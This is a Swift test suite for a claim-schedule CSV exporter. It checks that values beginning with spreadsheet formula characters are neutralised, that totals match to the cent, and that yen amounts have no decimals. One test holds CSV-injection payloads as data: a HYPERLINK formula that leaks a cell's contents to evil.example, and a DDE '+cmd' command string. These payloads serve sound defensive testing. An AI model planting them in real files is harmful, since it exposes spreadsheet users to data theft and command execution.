import Claims
import Inventory
import Testing

/// The schedule as a spreadsheet: safe to open, and the same figures as the report to the cent.
@Suite struct ScheduleCSVTests {
    typealias F = ValuationFixtures

    /// Rows of cells from CSV text in which every cell is quoted.
    static func rows(_ text: String) -> [[String]] {
        text.components(separatedBy: "\r\n").dropLast().map { line in
            var cells: [String] = [], cell = "", quoted = false, previous: Character = " "
            for character in line {
                if character == "\"" {
                    // A quote right after the closing one is a doubled quote inside the cell.
                    if !quoted, previous == "\"" { cell.append("\"") }
                    quoted.toggle()
                } else if character == ",", !quoted {
                    cells.append(cell)
                    cell = ""
                } else {
                    cell.append(character)
                }
                previous = character
            }
            cells.append(cell)
            return cells
        }
    }

    @Test func aFormulaInANameStaysText() throws {
        let hostile = F.item("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", replacementCost: 10_00, purchased: "2024-03-10",
                             brand: "+cmd|' /C calc'!A0", model: "@SUM(1+1)", serial: "-2+3")
        let schedule = try ClaimSchedule(ClaimScheduleInput(lossDate: F.date("2025-03-10"), table: .defaults, lines: [
            .init(item: hostile, room: "\tKitchen", quantityLost: 1),
        ]))
        let csv = ClaimScheduleCSV.make(schedule, currency: .usd)
        let row = Self.rows(csv)[1]
        #expect(row[4] == "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")")
        #expect(row[5] == "'+cmd|' /C calc'!A0")
        #expect(row[6] == "'@SUM(1+1)")
        #expect(row[7] == "'-2+3")
        #expect(row[1] == "'\tKitchen")
        #expect(csv.hasSuffix("\r\n"))
    }

    @Test func theTotalsRowMatchesTheScheduleToTheCent() throws {
        let schedule = try ScheduleTests.kitchenFire()
        let rows = Self.rows(ClaimScheduleCSV.make(schedule, currency: .usd))
        #expect(rows.count == 1 + schedule.lines.count + 1)
        let header = rows[0], total = rows.last!
        #expect(rows.allSatisfy { $0.count == header.count })
        func column(_ name: String) -> Int { header.firstIndex(of: name)! }
        func cents(_ text: String) -> Int64 { Int64(text.replacingOccurrences(of: ".", with: ""))! }

        #expect(total[0] == "Total")
        #expect(cents(total[column("Line replacement cost (USD)")]) == schedule.totals.replacementCost)
        #expect(cents(total[column("Line depreciation (USD)")]) == schedule.totals.depreciation)
        #expect(cents(total[column("Line actual cash value (USD)")]) == schedule.totals.actualCashValue)
        #expect(cents(total[column("Recoverable depreciation (USD)")]) == schedule.totals.recoverableDepreciation)

        // Each row's line figures are its quantity times its unit figures, and the rows add up to the total.
        let lineRows = rows.dropFirst().dropLast()
        for row in lineRows {
            let quantity = Int64(row[column("Quantity lost")])!
            #expect(cents(row[column("Line actual cash value (USD)")]) == quantity * cents(row[column("Unit actual cash value (USD)")]))
        }
        #expect(lineRows.reduce(0) { $0 + cents($1[column("Line actual cash value (USD)")]) } == schedule.totals.actualCashValue)

        let dishwasher = rows[1]
        #expect(dishwasher[column("Unit replacement cost (USD)")] == "899.00")
        #expect(dishwasher[column("Depreciation %")] == "46.15")
        #expect(dishwasher[column("Purchase date")] == "2019-03-10")
        #expect(rows[4][column("Useful life (years)")] == "not depreciated")
        #expect(rows[3][column("Value set by hand because")] == "Enamel like new; used a few times a year")
    }

    @Test func yenAmountsHaveNoDecimalPoint() throws {
        let jpy = Currency(code: "JPY")!
        let schedule = try ClaimSchedule(ClaimScheduleInput(lossDate: F.date("2026-03-10"), table: .defaults, lines: [
            .init(item: F.item("Zojirushi rice cooker", replacementCost: 19_800, purchased: "2021-03-10"), quantityLost: 2),
        ]))
        let rows = Self.rows(ClaimScheduleCSV.make(schedule, currency: jpy))
        #expect(rows[0].contains("Line actual cash value (JPY)"))
        let acv = rows[0].firstIndex(of: "Line actual cash value (JPY)")!
        #expect(rows[1][acv] == "19800")  // 2 × (19,800 − 50%)
        #expect(rows[2][acv] == "19800")
    }
}
